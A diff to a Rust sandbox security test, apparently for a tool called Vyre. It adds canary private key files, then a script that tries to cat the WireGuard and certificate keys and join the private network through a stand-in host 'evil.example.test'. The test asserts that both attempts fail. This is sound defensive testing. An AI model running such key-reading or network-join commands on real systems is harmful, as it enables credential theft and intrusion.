@@ -93,6 +93,12 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
     let r = rig_with_harness("atk-peer-sandbox").await;
     std::fs::write(r.work.join("attack.py"), ATTACK).unwrap();
     std::fs::write(r.home.vyre_home().join("canary.txt"), "vyre-home-canary").unwrap();
+    // Where the private network's key and a name's certificate key live (ADR 0018, 0019).
+    for secret in ["network/wireguard.key", "certs/alex.vyre.test/key.pem"] {
+        let path = r.home.vyre_home().join(secret);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, "vyre-key-canary").unwrap();
+    }
     let thread = start_thread(&r).await;
     let vyred = std::process::id();
     let home = r.home.vyre_home();
@@ -104,6 +110,8 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
          python3 attack.py \"$VYRE_SOCKET\" own-double.txt double; \
          setsid {bin} tools > tools.txt 2>&1; \
          setsid {bin} files preview /etc/hostname > files.txt 2>&1; echo \"exit=$?\" >> files.txt; \
+         cat {home}/network/wireguard.key {home}/certs/*/key.pem > keys.txt 2>&1; \
+         setsid {bin} network join --name evil --endpoint evil.example.test:51820 > join.txt 2>&1; echo \"exit=$?\" >> join.txt; \
          setsid sh -c 'env -i sleep 8765 &'; true",
         bin = BIN,
         home = home.display(),
@@ -137,6 +145,15 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
     assert!(
         files.contains("exit=") && !files.contains("exit=0") && !files.contains("\"lines\""),
         "a session cannot read the person's files through Vyre: {files}"
+    );
+    assert!(
+        !read("keys.txt").contains("vyre-key-canary"),
+        "a session reads neither the network's key nor a certificate's"
+    );
+    let join = read("join.txt");
+    assert!(
+        join.contains("exit=") && !join.contains("exit=0") && !join.contains("PrivateKey"),
+        "a session cannot put a device of its own on the private network: {join}"
     );
     no_device_was_added(&r).await;
 
